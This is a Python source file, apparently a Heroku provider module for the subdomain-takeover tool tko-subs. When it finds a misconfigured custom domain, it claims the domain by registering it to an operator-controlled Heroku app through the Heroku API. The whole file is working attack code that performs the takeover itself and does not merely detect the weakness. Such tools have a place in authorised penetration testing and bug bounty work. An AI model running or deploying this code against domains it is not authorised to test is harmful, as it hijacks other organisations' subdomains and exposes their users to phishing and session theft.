"""Heroku custom domain takeover for tko-subs."""

from typing import Any, Dict

from .base_provider import MissingCredentialsError, TakeoverProvider, console
from .constants import HEROKU_ACCEPT, HEROKU_API, MSG_TAKEN_OVER


class HerokuProvider(TakeoverProvider):
    """Claims a dangling Heroku domain by adding it to a preconfigured app."""

    name = "heroku"
    api_url = HEROKU_API

    def __init__(self, credentials, session=None):
        super().__init__(credentials, session)
        self.session.headers.update({'Accept': HEROKU_ACCEPT})
        if credentials.heroku_username and credentials.heroku_api_key:
            self.session.auth = (credentials.heroku_username, credentials.heroku_api_key)

    def attempt(self, domain: str) -> str:
        creds = self.credentials
        if not (creds.heroku_username and creds.heroku_api_key and creds.heroku_app_name):
            raise MissingCredentialsError("Heroku username, API key and app name must all be configured")

        console.print(f"Found: Misconfigured Heroku app at {domain}", markup=False)
        console.print("Trying to take over this domain now..Please wait for a few seconds")

        created = self.best_effort(
            "custom domain registration",
            lambda: self.add_domain(creds.heroku_app_name, domain)
        )
        if created:
            self.logger.info(f"Added {domain} to Heroku app {creds.heroku_app_name}")

        return MSG_TAKEN_OVER.format(domain=domain)

    def add_domain(self, app_name: str, hostname: str) -> Dict[str, Any]:
        return self.request('POST', f"/apps/{app_name}/domains", json={'hostname': hostname})
